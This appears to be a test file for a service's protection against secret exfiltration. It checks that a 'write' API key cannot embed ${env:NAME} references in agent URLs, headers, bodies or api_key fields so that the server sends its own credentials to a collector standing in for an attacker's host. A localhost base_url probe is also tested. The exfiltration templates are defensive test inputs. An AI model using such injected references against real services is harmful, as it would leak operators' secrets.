"""Secrets never leave the server: what a ``write`` key can make the server send, and where.

The service runs with known secret settings, and the same values sit in the process
environment, where ``${env:NAME}`` would read them. A collector on 127.0.0.1 (allowed by
``AIFACTORY_ALLOWED_AGENT_HOSTS``) keeps every byte it receives, as an attacker's server would.
With a ``write`` key, every place a config can hold a reference (URL, query, header, nested
body, an llm agent's ``api_key``, a scripted answer) is refused on create, on PATCH and inline
in ``/test/run``, with a 422 naming the field and ``AIFACTORY_AGENT_ENV``, even though the
operator's ``AIFACTORY_AGENT_ENV`` has a pattern matching every secret; a name the operator
allows works, which proves the collector would have seen a leak. A stored config whose name is
disallowed after a restart gives ``error`` results and sends nothing. An ``llm`` agent's
``base_url`` naming ``localhost`` (a name, not a literal) is refused at call time unless
allowed.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import httpx
import pytest
from asgi_lifespan import LifespanManager
from tests.fakes.collector import Collector, start_collector
from tests.fakes.fake_llm import FakeLLMServer, Reply
from tests.fakes.service import ADMIN_KEY, service_settings

from aifactory.api.app import create_app
from aifactory.store.database import Database

pytest_plugins = ["tests.fakes.fixtures"]

# The server's own settings, as the operator would set them.
SERVER_SECRETS = {
    "AIFACTORY_API_KEYS": ADMIN_KEY,
    "AIFACTORY_SESSION_SECRET": "session-secret-d41d8cd98f00b204e9800998ecf8427e",
    "ANTHROPIC_API_KEY": "sk-ant-server-secret-7f3a9c",
    "OPENAI_API_KEY": "sk-openai-server-secret-2b8e1d",
}
# More of the server's own variables; the app under test does not use them (no outside
# traffic), but the process environment holds them, as a real server's would.
ENVIRONMENT_ONLY = {
    "SUPABASE_DB_URL": "postgresql://app:supabase-secret-51c0@db.invalid/app",
    "REDIS_URL": "redis://:redis-secret-9e4f@127.0.0.1:6379/0",
    "AIFACTORY_QUEUE_URL": "redis://:queue-secret-0a7d@127.0.0.1:6379/1",
    "AIFACTORY_LIMITS_URL": "redis://:limits-secret-c3b2@127.0.0.1:6379/2",
    "SUPABASE_KEY": "supabase-key-secret-6d1e",
    "PGPASSWORD": "pg-password-secret-8a2f",
}
# A pattern of the operator's matches every secret above: the refusal cannot rest on it.
BROAD = "TEAM_*,AIFACTORY_*,ANTHROPIC_*,OPENAI_*,DATABASE_*,SUPABASE_*,REDIS_*,PG*"
TEAM_TOKEN = "team-token-allowed-4c9d"
CASE = {"name": "hello", "input": "hello", "checks": [{"type": "contains", "value": "collected"}]}


@pytest.fixture
def secrets(database_url: str, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """Every secret, also put in the process environment (what ``${env:NAME}`` reads)."""
    values = SERVER_SECRETS | ENVIRONMENT_ONLY | {"DATABASE_URL": database_url}
    for name, value in values.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("TEAM_TOKEN", TEAM_TOKEN)
    return values


@asynccontextmanager
async def running(database_url: str, **env: str) -> AsyncIterator[httpx.AsyncClient]:
    """The app on ``database_url`` with the server secrets and ``env``; an admin client."""
    settings = service_settings(
        database_url, **(SERVER_SECRETS | {"AIFACTORY_ALLOWED_AGENT_HOSTS": "127.0.0.1"} | env)
    )
    app = create_app(settings)
    async with (
        LifespanManager(app, startup_timeout=30, shutdown_timeout=30),
        httpx.AsyncClient(
            base_url="http://test",
            transport=httpx.ASGITransport(app),
            headers={"Authorization": f"Bearer {ADMIN_KEY}"},
        ) as admin,
    ):
        yield admin


async def write_key(admin: httpx.AsyncClient) -> dict[str, str]:
    created = await admin.post("/api/v1/keys", json={"name": "ci", "scopes": ["write"]})
    assert created.status_code == 201, created.text
    return {"Authorization": f"Bearer {created.json()['key']}"}


def assert_nothing_leaked(collector: Collector, secrets: dict[str, str]) -> None:
    leaked = [name for name, value in secrets.items() if collector.saw(value)]
    assert leaked == [], f"the collector received {leaked}"


def assert_refused(response: httpx.Response, field: str, name: str) -> None:
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["code"] == "invalid_request"
    assert "AIFACTORY_AGENT_ENV" in error["message"]
    assert f"${{env:{name}}}" in error["message"]
    assert [d["field"] for d in error["details"]] == [field]


# Every place a config can hold a reference: (kind, config with NAME, the field named).
PLACES: list[tuple[str, dict[str, Any], str]] = [
    ("http", {"url": "{collector}/${env:NAME}"}, "config.url"),
    ("http", {"url": "{collector}/a?k=${env:NAME}"}, "config.url"),
    ("http", {"url": "{collector}", "headers": {"X-A": "${env:NAME}"}}, "config.headers.X-A"),
    (
        "http",
        {"url": "{collector}", "body": {"input": "{{input}}", "a": {"b": ["x", "${env:NAME}"]}}},
        "config.body.a.b[1]",
    ),
    (
        "llm",
        {
            "provider": "openai",
            "model": "m",
            "base_url": "{collector}/v1",
            "api_key": "${env:NAME}",
        },
        "config.api_key",
    ),
    ("scripted", {"default": "your key is ${env:NAME}"}, "config.default"),
]


def config_for(template: dict[str, Any], collector: Collector, name: str) -> dict[str, Any]:
    text = json.dumps(template).replace("{collector}", collector.url)
    return dict(json.loads(text.replace("${env:NAME}", f"${{env:{name}}}")))


@pytest.mark.parametrize(("kind", "template", "field"), PLACES)
async def test_a_write_key_cannot_make_the_server_send_its_own_settings(
    database: Database,
    database_url: str,
    secrets: dict[str, str],
    kind: str,
    template: dict[str, Any],
    field: str,
) -> None:
    async with (
        start_collector() as collector,
        running(database_url, AIFACTORY_AGENT_ENV=BROAD) as admin,
    ):
        writer = await write_key(admin)
        harmless = {"url": collector.url} if kind == "http" else {}
        if kind == "llm":
            harmless = template | {"base_url": f"{collector.url}/v1", "api_key": "agent-own"}
        created = await admin.post(
            "/api/v1/agents",
            json={"id": "target", "kind": kind, "config": harmless},
            headers=writer,
        )
        assert created.status_code == 201, created.text

        for name in secrets:
            config = config_for(template, collector, name)
            agent = {"kind": kind, "config": config}
            create = await admin.post("/api/v1/agents", json=agent, headers=writer)
            assert_refused(create, field, name)
            patch = await admin.patch(
                "/api/v1/agents/target", json={"config": config}, headers=writer
            )
            assert_refused(patch, field, name)
            inline = await admin.post(
                "/api/v1/test/run", json={"agent": agent, "test_case": CASE}, headers=writer
            )
            assert_refused(inline, field, name)
            # Upper or lower case: the server reads its settings either way.
            lower = config_for(template, collector, name.lower())
            lowered = await admin.post(
                "/api/v1/agents", json={"kind": kind, "config": lower}, headers=writer
            )
            assert_refused(lowered, field, name.lower())

        target = await admin.get("/api/v1/agents/target", headers=writer)
        assert target.json()["version"] == 1
        listed = await admin.get("/api/v1/agents", headers=writer)
        assert listed.json()["total"] == 1
    assert collector.connections == 0
    assert_nothing_leaked(collector, secrets)


async def test_an_allowed_name_reaches_the_collector_and_a_secret_does_not(
    database: Database, database_url: str, secrets: dict[str, str]
) -> None:
    # The control: the same path carries the value of a name the operator allows.
    async with (
        start_collector() as collector,
        running(database_url, AIFACTORY_AGENT_ENV=BROAD) as admin,
    ):
        writer = await write_key(admin)
        agent = {
            "kind": "http",
            "config": {
                "url": f"{collector.url}/t?team=${{env:TEAM_TOKEN}}",
                "headers": {"Authorization": "Bearer ${env:TEAM_TOKEN}"},
                "body": {"input": "{{input}}", "nested": ["${env:TEAM_TOKEN}"]},
            },
        }
        ran = await admin.post(
            "/api/v1/test/run", json={"agent": agent, "test_case": CASE}, headers=writer
        )
        assert ran.status_code == 200, ran.text
        assert ran.json()["status"] == "passed", ran.json()
    [request] = collector.requests
    assert request.headers["authorization"] == f"Bearer {TEAM_TOKEN}"
    assert request.query == {"team": TEAM_TOKEN}
    assert json.loads(request.body)["nested"] == [TEAM_TOKEN]
    assert_nothing_leaked(collector, secrets)


async def test_without_the_setting_no_name_is_readable(
    database: Database, database_url: str, secrets: dict[str, str]
) -> None:
    async with start_collector() as collector, running(database_url) as admin:
        writer = await write_key(admin)
        agent = {
            "kind": "http",
            "config": {"url": collector.url, "headers": {"X-Team": "${env:TEAM_TOKEN}"}},
        }
        refused = await admin.post("/api/v1/agents", json=agent, headers=writer)
        assert_refused(refused, "config.headers.X-Team", "TEAM_TOKEN")
        assert "does not allow" in refused.json()["error"]["message"]
    assert collector.connections == 0


async def test_batches_carry_no_inline_agent_and_case_values_are_never_references(
    database: Database, database_url: str, secrets: dict[str, str]
) -> None:
    async with (
        start_collector() as collector,
        running(database_url, AIFACTORY_AGENT_ENV=BROAD) as admin,
    ):
        writer = await write_key(admin)
        inline = {
            "agent_id": "echo",
            "agent": {
                "kind": "http",
                "config": {"url": f"{collector.url}/${{env:OPENAI_API_KEY}}"},
            },
            "test_cases": [CASE],
        }
        refused = await admin.post("/api/v1/test/batch", json=inline, headers=writer)
        assert refused.status_code == 422, refused.text
        assert collector.connections == 0

        created = await admin.post(
            "/api/v1/agents",
            json={
                "id": "echo",
                "kind": "http",
                "config": {
                    "url": f"{collector.url}/q?v={{{{vars.v}}}}",
                    "body": {"q": "{{input}}"},
                },
            },
            headers=writer,
        )
        assert created.status_code == 201, created.text
        sneaky = CASE | {"input": "${env:ANTHROPIC_API_KEY}", "vars": {"v": "${env:DATABASE_URL}"}}
        batch = await admin.post(
            "/api/v1/test/batch", json={"agent_id": "echo", "test_cases": [sneaky]}, headers=writer
        )
        assert batch.status_code == 202, batch.text
        status = await finished(admin, batch.json()["run_id"])
        assert status["passed"] == 1, status
    [request] = collector.requests
    assert json.loads(request.body) == {"q": "${env:ANTHROPIC_API_KEY}"}
    assert request.query == {"v": "${env:DATABASE_URL}"}
    assert_nothing_leaked(collector, secrets)


async def finished(client: httpx.AsyncClient, run_id: str) -> dict[str, Any]:
    for _ in range(600):
        status: dict[str, Any] = (await client.get(f"/api/v1/test/status/{run_id}")).json()
        if status["status"] not in ("queued", "running"):
            return status
        await asyncio.sleep(0.05)
    pytest.fail(f"run {run_id} did not finish")


async def test_a_stored_name_the_operator_stops_allowing_sends_nothing(
    database: Database, database_url: str, secrets: dict[str, str], fake_llm: FakeLLMServer
) -> None:
    llm_agent = {
        "id": "team-llm",
        "kind": "llm",
        "config": {
            "provider": "openai",
            "model": "m",
            "base_url": fake_llm.openai_base_url,
            "api_key": "${env:TEAM_TOKEN}",
        },
    }
    fake_llm.script(Reply(text="collected"))
    async with start_collector() as collector:
        http_agent = {
            "id": "team-http",
            "kind": "http",
            "config": {"url": collector.url, "headers": {"X-Team": "${env:TEAM_TOKEN}"}},
        }
        async with running(database_url, AIFACTORY_AGENT_ENV="TEAM_*") as admin:
            writer = await write_key(admin)
            for agent in (http_agent, llm_agent):
                created = await admin.post("/api/v1/agents", json=agent, headers=writer)
                assert created.status_code == 201, created.text
                ran = await admin.post(
                    "/api/v1/test/run",
                    json={"agent_id": agent["id"], "test_case": CASE},
                    headers=writer,
                )
                assert ran.json()["status"] == "passed", ran.json()
        assert len(collector.requests) == 1
        assert [r.api_key() for r in fake_llm.requests] == [TEAM_TOKEN]

        # Restarted without the name: the stored agents stay, their calls stop.
        async with running(database_url, AIFACTORY_AGENT_ENV="OTHER_*") as admin:
            for agent_id in ("team-http", "team-llm"):
                ran = await admin.post(
                    "/api/v1/test/run",
                    json={"agent_id": agent_id, "test_case": CASE},
                    headers=writer,
                )
                assert ran.status_code == 200, ran.text
                result = ran.json()
                assert result["status"] == "error", json.dumps(result)
                assert "${env:TEAM_TOKEN}" in result["error"]
                assert "AIFACTORY_AGENT_ENV" in result["error"]
                batch = await admin.post(
                    "/api/v1/test/batch",
                    json={"agent_id": agent_id, "test_cases": [CASE, CASE | {"name": "again"}]},
                    headers=writer,
                )
                status = await finished(admin, batch.json()["run_id"])
                assert (status["status"], status["errored"]) == ("completed", 2), status
        assert len(collector.requests) == 1
        assert len(fake_llm.requests) == 1
    assert collector.requests[0].headers["x-team"] == TEAM_TOKEN  # before the restart only
    assert_nothing_leaked(collector, secrets)


@pytest.mark.parametrize("provider", ["openai", "anthropic"])
async def test_an_llm_base_url_naming_localhost_sends_nothing(
    database: Database, database_url: str, secrets: dict[str, str], provider: str
) -> None:
    async with (
        start_collector() as collector,
        # Nothing on loopback is allowed: 127.0.0.1 would allow localhost by its address.
        running(
            database_url, AIFACTORY_ALLOWED_AGENT_HOSTS="", AIFACTORY_LLM_MAX_ATTEMPTS="2"
        ) as admin,
    ):
        writer = await write_key(admin)
        agent = {
            "kind": "llm",
            "config": {
                "provider": provider,
                "model": "m",
                "base_url": f"http://localhost:{collector.port}/v1",
                "api_key": "agent-own-key",
            },
        }
        # A name is no literal: registration cannot judge it; every call does.
        created = await admin.post("/api/v1/agents", json=agent | {"id": "llm"}, headers=writer)
        assert created.status_code == 201, created.text
        for body in ({"agent_id": "llm"}, {"agent": agent}):
            ran = await admin.post(
                "/api/v1/test/run", json=body | {"test_case": CASE}, headers=writer
            )
            assert ran.status_code == 200, ran.text
            result = ran.json()
            assert result["status"] == "error", json.dumps(result)
            assert "'localhost' (127.0.0.1)" in result["error"], result["error"]
            assert "AIFACTORY_ALLOWED_AGENT_HOSTS" in result["error"]
        # Without a key of its own the server's key would go there: refused before any call.
        keyless = {"kind": "llm", "config": {**agent["config"], "api_key": None}}
        refused = await admin.post(
            "/api/v1/test/run", json={"agent": keyless, "test_case": CASE}, headers=writer
        )
        assert refused.status_code == 422, refused.text
        assert "no api_key" in refused.json()["error"]["message"]
    assert collector.connections == 0


@pytest.mark.parametrize("provider", ["openai", "anthropic"])
async def test_an_allowed_llm_host_is_reached_with_the_agents_own_key(
    database: Database,
    database_url: str,
    secrets: dict[str, str],
    fake_llm: FakeLLMServer,
    provider: str,
) -> None:
    fake_llm.script(Reply(text="collected"))
    base_url = fake_llm.openai_base_url if provider == "openai" else fake_llm.anthropic_base_url
    async with running(database_url, AIFACTORY_ALLOWED_AGENT_HOSTS="localhost") as admin:
        writer = await write_key(admin)
        agent = {
            "kind": "llm",
            "config": {
                "provider": provider,
                "model": "m",
                "base_url": base_url.replace("127.0.0.1", "localhost"),
                "api_key": "agent-own-key",
            },
        }
        ran = await admin.post(
            "/api/v1/test/run", json={"agent": agent, "test_case": CASE}, headers=writer
        )
        assert ran.json()["status"] == "passed", ran.json()
    [request] = fake_llm.requests
    assert request.api_key() == "agent-own-key"
    assert not any(value in json.dumps(request.headers) for value in secrets.values())
